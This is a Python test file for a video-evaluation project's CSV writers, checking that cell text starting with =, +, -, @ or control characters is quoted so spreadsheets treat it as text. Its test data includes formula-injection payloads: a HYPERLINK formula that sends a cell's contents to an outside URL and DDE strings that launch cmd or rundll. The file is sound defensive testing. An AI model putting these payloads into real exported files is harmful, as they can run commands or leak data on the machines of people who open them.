"""What a spreadsheet makes of the tables that are written: text and numbers, never something to run."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest

from vatl_formats import csv_text
from vatl_report.layout import Cell, Table
from vatl_report.split_evaluation import Figures, SplitEvaluation
from vatl_sweep.folder import SweepFolder
from vatl_sweep.results import write_results

FORMULAS = (
    '=HYPERLINK("http://example.org/?"&A1,"more")', "+1+cmd|' /C calc'!A0", "-2+3+rundll|x!A", "@SUM(A1:A9)",
    "\tnamed", "\rnamed", "\n=A1", "  =A1", "＝A1", "-", "--1",
)  # fmt: skip
NUMBERS = (-1, -0.25, "-3.50", "+7", "-1e-05", float("-inf"), None, True, 0)


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("formula", FORMULAS)
def test_text_that_would_be_a_formula_is_text(formula: str) -> None:
    text = "'" + formula.replace("\r", "\n")
    assert cells(csv_text([formula, "b"], [[formula, 1]])) == [[text, "b"], [text, "1"]]
    assert cells(Table("t", "T", ("a",), ((Cell.of(formula),),)).csv())[1] == [text]


def test_no_text_begins_a_row() -> None:
    assert cells(csv_text(["a"], [["anna\r=A1"], ["anna\n=A1"]])) == [["a"], ["anna\n=A1"], ["anna\n=A1"]]


def test_numbers_stay_numbers_and_names_stay_names() -> None:
    assert cells(csv_text(["n"], [[n] for n in NUMBERS])) == [["n"], *([str("" if n is None else n)] for n in NUMBERS)]
    names = ["anna", "a=b", "jean-luc", "x@example.org", "", "'quoted'", "1-2"]
    assert [row[0] for row in cells(csv_text(["n", "m"], [[n, 1] for n in names]))[1:]] == names


def test_videos_that_are_evaluated_are_named_without_a_formula() -> None:
    figures = Figures(
        video="=A1", instances=1, frames=1, measured=1, ap=None, ap_at={}, ap_medium=None, ap_large=None, ar=None,
        mean_oks=-0.5, further={"PCK": 0.5, "PCK.nose": 0.5},
    )  # fmt: skip
    (row, together) = csv.DictReader(io.StringIO(SplitEvaluation("d", None, "e", "w", figures, (figures,)).to_csv()))
    assert (row["video"], row["mean_oks"], row["ap"], together["pck_nose"]) == ("'=A1", "-0.5", "", "0.5")


@pytest.mark.parametrize("written", ["runs.csv", "results.csv"])
def test_what_a_sweep_writes_has_no_formulas(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, written: str) -> None:
    row: dict[str, Any] = {"run": "@r", "variant": "=v", "video": "+w", "state": "finished", "alc": -0.5}
    row |= {"mean_oks": 0.5, "cause": "-c"}
    monkeypatch.setattr("vatl_sweep.results.rows_of", lambda *_: [row])
    write_results(SweepFolder(tmp_path), [])
    (found,) = csv.DictReader((tmp_path / written).open())
    told = {"runs.csv": ("'=v", "'+w", "-0.5", "'@r", "'-c"), "results.csv": ("'=v", "'+w", "-0.5", None, None)}
    assert tuple(found.get(name) for name in ("variant", "video", "alc", "run", "cause")) == told[written]
